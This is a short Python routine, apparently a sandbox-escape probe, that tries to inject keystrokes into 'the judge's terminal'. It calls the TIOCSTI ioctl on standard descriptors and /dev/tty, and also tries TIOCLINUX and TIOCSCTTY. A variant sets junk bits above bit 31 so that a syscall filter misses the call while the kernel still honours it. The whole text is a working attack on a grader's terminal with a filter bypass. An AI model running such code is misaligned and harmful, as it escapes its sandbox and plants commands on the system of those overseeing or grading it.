# Typing into the judge's terminal; the ioctl numbers carry garbage above bit 31, which the kernel drops and a filter may not.
def solve(where):
    import fcntl

    places = {f"descriptor {number}": number for number in range(4)}
    try:
        places["/dev/tty"] = os.open("/dev/tty", os.O_RDWR)
    except OSError as refusal:
        note(f"/dev/tty: {refusal}")
    for name, descriptor in places.items():
        attempt(f"TIOCSTI on {name}", lambda: fcntl.ioctl(descriptor, 0x5412, b"x"))
        attempt(f"TIOCSTI with high bits on {name}", lambda: call(16, descriptor, 0x5412 | 1 << 32, b"x"))
        attempt(f"TIOCLINUX on {name}", lambda: fcntl.ioctl(descriptor, 0x541C, b"\x02"))
        attempt(f"TIOCSCTTY on {name}", lambda: fcntl.ioctl(descriptor, 0x540E, 1))
    return report()
